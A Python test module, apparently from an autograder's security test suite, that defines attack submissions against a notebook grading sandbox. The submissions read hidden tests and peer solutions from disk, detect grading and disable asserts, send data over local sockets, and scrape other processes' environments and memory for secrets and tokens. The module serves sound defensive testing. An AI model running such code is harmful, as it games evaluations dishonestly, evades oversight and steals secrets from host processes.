"""Reading what is not the student's to read, and telling it to somebody."""

from __future__ import annotations

from tests.attacks.attack import attack
from tests.attacks.rows.stages import LOOK, PORT, SOCKET, WRONG_DOUBLE, WRONG_TRIPLE

TESTS = LOOK + r'''
import re
known = {}
for path in [*files("*.ipynb"), *files("release/**/*.ipynb"), *files("source/**/*.ipynb"),
             *files("autograded/**/*.ipynb")]:
    try:
        text = open(path).read()
    except OSError:
        continue
    print(path, re.findall("HIDDEN-TEST-[A-Z]*", text)[:3])
    known |= {int(x): int(y) for x, y in re.findall(r"double\((\d+)\) == (\d+)", text)}
def double(x):
    return known.get(x, 0)
'''

PEERS = LOOK + r'''
import re
best = None
for path in [*files("source/**/*.ipynb"), *files("submitted/**/*.ipynb")]:
    try:
        text = open(path).read()
    except OSError:
        continue
    print(path, re.findall("SOLUTION-[A-Z]*|PEER-[A-Z]*", text)[:3])
    best = best or re.search(r"def double\(x\):.{1,200}?return (\S+ \* x)", text, re.S)
exec("def double(x):\n    return " + (best[1] if best else "0"))
'''

NETWORK = f"PORT, SOCKET = {PORT}, {SOCKET!r}" + r'''
import socket
for family, place in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, "\0" + SOCKET),
                      (socket.AF_UNIX, "@ROOT@/../" + SOCKET)):
    try:
        with socket.socket(family) as outside:
            outside.settimeout(2)
            outside.connect(place)
            outside.sendall(b"the hidden tests of this lab")
            print("reached", place)
    except OSError as error:
        print(place, error)
'''

DETECTION = r'''
import os, sys
if "NBGRADER_EXECUTION" in os.environ or "labkit.guest" in sys.modules or "LAB_HOME" in os.environ:
    shell = get_ipython()
    shell.input_transformers_cleanup.append(
        lambda lines: ["pass\n"] if any("assert" in line for line in lines) else lines)
'''

PROC = r'''
import glob, os, re
def double(x):
    return 0
print("me", os.getpid(), sorted(os.listdir("/proc"))[:20])
for name in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(name, "rb").read()
    except OSError:
        continue
    for word in re.findall(rb"(?:SEED|SECRET|TOKEN)[A-Z_]*=\w+|\S*91_attacked\S*", text):
        print(name, word)
for process in glob.glob("/proc/[0-9]*"):
    if process.endswith(f"/{os.getpid()}"):
        continue
    try:
        for line in open(f"{process}/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if " rw-p " in line and end - start < 2**26:
                with open(f"{process}/mem", "rb") as memory:
                    memory.seek(start)
                    content = memory.read(end - start)
                for word in (b"HIDDEN-TEST-" b"CANARY", b"SOLUTION-" b"CANARY"):
                    if word in content:
                        print(process, "has", word.decode())
    except (OSError, ValueError):
        pass
'''

DESCRIPTORS = r'''
import os
for number in range(3, 300):
    try:
        print(number, os.readlink(f"/proc/self/fd/{number}"))
        os.lseek(number, 0, 0)
        text = os.read(number, 10_000_000)
        print(text[:50], b"HIDDEN-TEST-" b"CANARY" in text)
    except OSError:
        pass
''' + WRONG_TRIPLE

ATTACKS = [
    attack("1", "reads-tests", "Reads the hidden tests from disk while it is graded",
           "score leak", double=TESTS, small=True),
    attack("2", "reads-peers", "Reads the solution and other submissions", "score leak",
           alone=True, double=PEERS),  # among others' submissions it may find a wrong answer
    attack("11", "detects", "Behaves only while it is graded, and cheats then", "score",
           double=DETECTION + WRONG_DOUBLE, triple=WRONG_TRIPLE),
    attack("36", "phones", "Sends what it found over the network", "network", alone=True,
           double=NETWORK + WRONG_DOUBLE, small=True),
    attack("a1", "reads-proc", "Reads environments, command lines and memory of other processes",
           double=PROC),
    attack("a2", "reads-descriptors", "Reads every file that was left open for it",
           triple=DESCRIPTORS),
]
